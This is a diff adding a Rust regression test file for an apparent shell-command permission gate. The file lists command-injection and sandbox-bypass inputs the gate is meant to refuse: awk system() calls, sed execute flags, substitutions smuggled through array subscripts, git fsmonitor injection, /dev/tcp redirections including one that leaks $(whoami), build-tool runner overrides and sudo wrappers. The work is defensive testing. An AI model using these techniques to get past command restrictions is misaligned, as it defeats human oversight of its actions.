@@ -1,0 +1,194 @@
+//! `@safe` never runs code, writes, or reaches the network: each case below was allowed by an
+//! earlier version and did harm when run. Each stands for a class.
+
+mod common;
+
+use common::{judge, safe_policy};
+use shellgate_intercept::Decision;
+
+fn refused(extra: &[&str], command: &str) {
+    let j = judge(&safe_policy(extra), command);
+    assert_ne!(
+        j.decision(),
+        Decision::Allow,
+        "{command:?} under @safe + {extra:?} was allowed: {:?}",
+        j.segments
+    );
+}
+
+fn allowed(extra: &[&str], command: &str) {
+    let j = judge(&safe_policy(extra), command);
+    assert_eq!(
+        j.decision(),
+        Decision::Allow,
+        "{command:?} under @safe + {extra:?} was refused: {:?}",
+        j.reason
+    );
+}
+
+#[test]
+fn awk_division_after_a_trailing_dot_number_is_not_a_regex() {
+    refused(&[], r#"awk 'BEGIN { x = 1. / 1; system("touch /tmp/p") }'"#);
+    refused(&[], r#"awk 'BEGIN { x = 1 / 1; system("touch /tmp/p") }'"#);
+    refused(
+        &[],
+        r#"awk 'BEGIN { x = a[1] / 2; y = 3 / 1; system("touch /tmp/p") }'"#,
+    );
+    refused(&[], r#"awk '{ print $1 / 2 / 3; system("id") }' f"#);
+    allowed(&[], r#"awk '{ print $1 / 2 }' f"#);
+    allowed(&[], r#"awk '/a\/b/ { print $2 }' f"#);
+}
+
+#[test]
+fn sed_comments_end_at_the_line_whatever_the_backslash() {
+    refused(&[], r"sed -e '#x\' -e 'e touch /tmp/p' f");
+    refused(&[], r"sed -e 'r FILE\' -e 'e touch /tmp/p' f");
+    refused(&[], "sed -n ':a e touch /tmp/p' f");
+    refused(&[], "sed -n ':a;e touch /tmp/p' f");
+    refused(&[], "sed 's/a/b/w out' f");
+    refused(&[], "sed 's/a/b/e' f");
+    allowed(&[], "sed -n '1,5p' f");
+    allowed(&[], "sed -n '/^#/d; s/a/b/g; p' f");
+}
+
+#[test]
+fn array_subscripts_are_arithmetic_and_arithmetic_runs_substitutions() {
+    for command in [
+        "printf -v 'a[$(touch /tmp/p)]' x",
+        "test -v 'a[$(touch /tmp/p)]'",
+        "[ -v 'a[$(touch /tmp/p)]' ]",
+        "[[ -v 'a[$(touch /tmp/p)]' ]]",
+        "declare 'a[$(touch /tmp/p)]=1'",
+        "declare -i x='a[$(touch /tmp/p)]'",
+        "typeset 'a[$(touch /tmp/p)]=1'",
+        "local 'a[$(touch /tmp/p)]=1'",
+        "export 'a[$(touch /tmp/p)]=1'",
+        "readonly 'a[$(touch /tmp/p)]=1'",
+        "read 'a[$(touch /tmp/p)]' < /dev/null",
+        "let 'a[$(touch /tmp/p)]'",
+        "x='a[$(touch /tmp/p)]'; echo $((x))",
+        "x='a[$(touch /tmp/p)]'; (( x ))",
+        "x='a[$(touch /tmp/p)]'; [[ x -eq 0 ]]",
+        "x='a[$(touch /tmp/p)]'; [[ $x -eq 0 ]]",
+        "x='a[$(touch /tmp/p)]'; test -v \"$x\"",
+        "x='a[$(touch /tmp/p)]'; echo ${y:x:1}",
+        "x='a[`touch /tmp/p`]'; echo $((x + 1))",
+    ] {
+        refused(&[], command);
+    }
+    allowed(&[], "x=3; echo $((x + 1))");
+    allowed(&[], "test -v HOME");
+    allowed(&[], "printf -v out '%s' hi");
+}
+
+#[test]
+fn git_config_is_a_read_only_in_its_read_forms() {
+    refused(&[], "git config core.fsmonitor 'touch /tmp/p' get");
+    refused(&[], "git config --file /tmp/any k.v VAL get");
+    refused(&[], "git config --file=/tmp/any k.v VAL");
+    refused(&[], "git config set core.fsmonitor 'touch /tmp/p'");
+    refused(&[], "git config --add core.pager less");
+    refused(&[], "git config --unset core.pager");
+    refused(&[], "git config --edit");
+    refused(&[], "git config core.pager");
+    allowed(&[], "git config --get user.name");
+    allowed(&[], "git config --list");
+    allowed(&[], "git config get user.name");
+    allowed(&[], "git config --get-regexp '^remote'");
+    allowed(&[], "git config list --show-origin");
+}
+
+#[test]
+fn git_on_another_repository_is_not_safe() {
+    refused(&[], "git -C /tmp/other status");
+    refused(&[], "git --git-dir=/tmp/other/.git log");
+    refused(&[], "git --work-tree=/tmp/other status");
+    refused(&[], "git -C .. diff");
+    allowed(&[], "git -C . status");
+    allowed(&[], "git -C /work/ws log --oneline");
+}
+
+#[test]
+fn dev_tcp_and_dev_udp_redirections_are_network() {
+    refused(&[], "timeout 3 head -n1 < /dev/tcp/127.0.0.1/8081");
+    refused(&[], "echo hi > /dev/udp/127.0.0.1/53");
+    refused(&[], "cat < /dev/tcp/$(whoami).example/80");
+    refused(&[], "exec 3<>/dev/tcp/127.0.0.1/80");
+    refused(&[], "cat 0</dev/tcp/127.0.0.1/80");
+    refused(&[], "x=/dev/tcp/127.0.0.1/80; cat < $x");
+}
+
+#[test]
+fn read_only_commands_writing_through_options_are_refused() {
+    refused(&[], "GIT_TRACE=/tmp/any git status");
+    refused(&[], "GIT_TRACE2_EVENT=/tmp/any git log");
+    refused(&[], "ptx -G in out");
+    refused(&[], "hostname --file=F");
+    refused(&[], "hostname -F F");
+    refused(&[], "hostname newname");
+    refused(&[], "git branch --sort=x NAME");
+    refused(&[], "git branch NAME");
+    refused(&[], "git tag v9");
+    allowed(&[], "git branch --sort=-committerdate");
+    allowed(&[], "git branch -a");
+    allowed(&[], "hostname");
+    allowed(&[], "ptx in");
+}
+
+#[test]
+fn wildcard_rules_for_build_tools_do_not_cover_options_that_run_programs() {
+    let cases: &[(&str, &str)] = &[
+        (
+            "cargo test *",
+            r#"cargo test --config 'target.x86_64-unknown-linux-gnu.runner="touch /tmp/p"'"#,
+        ),
+        ("cargo test *", "cargo test --config build.rustc-wrapper=/tmp/x"),
+        ("cargo test *", "RUSTC=/x cargo test"),
+        ("cargo test *", "RUSTC_WORKSPACE_WRAPPER=/x cargo test"),
+        (
+            "cargo test *",
+            "CARGO_TARGET_X86_64_UNKNOWN_LINUX_GNU_RUNNER=/x cargo test",
+        ),
+        ("cargo test *", "cargo test -Z unstable-options"),
+        ("npm run *", "npm run build --script-shell=/tmp/x"),
+        ("npm run *", "npm run build --script-shell /tmp/x"),
+        ("make test *", "make test SHELL=/tmp/x"),
+        ("make test *", "make test --eval='x:=$(shell id)'"),
+        ("make test *", "make test -f /tmp/Makefile"),
+        ("pytest *", "pytest -p plugin"),
+        ("pytest *", "pytest -pplugin"),
+        ("go test *", "go test -exec /tmp/x ./..."),
+        ("go test *", "go test -toolexec /tmp/x ./..."),
+        ("docker ps *", "docker ps -H tcp://10.0.0.1:2375"),
+        ("docker ps *", "docker --host tcp://10.0.0.1:2375 ps"),
+        ("kubectl get *", "kubectl get pods --kubeconfig /tmp/k"),
+        ("kubectl get *", "PYTHONUSERBASE=/tmp/x kubectl get pods"),
+        ("cargo test *", "OPENSSL_CONF=/tmp/x cargo test"),
+    ];
+    for (rule, command) in cases {
+        refused(&[rule], command);
+    }
+    allowed(&["cargo test *"], "cargo test --release");
+    allowed(&["cargo test *"], "RUST_LOG=debug cargo test -p x");
+    allowed(&["npm run *"], "npm run build");
+    allowed(&["make test *"], "make test -j4");
+    allowed(&["pytest *"], "pytest -q tests/");
+    allowed(&["go test *"], "go test -run TestX ./...");
+    allowed(&["docker ps *"], "docker ps -a");
+    allowed(&["kubectl get *"], "kubectl get pods -n x");
+}
+
+#[test]
+fn privilege_wrappers_are_never_safe() {
+    for command in [
+        "sudo bash -lc 'echo hi'",
+        "doas bash -lc 'echo hi'",
+        "sudo ls",
+        "su -c 'ls' root",
+        "pkexec ls",
+        "run0 ls",
+        "sudo -u nobody cat /etc/hostname",
+    ] {
+        refused(&[], command);
+    }
+}
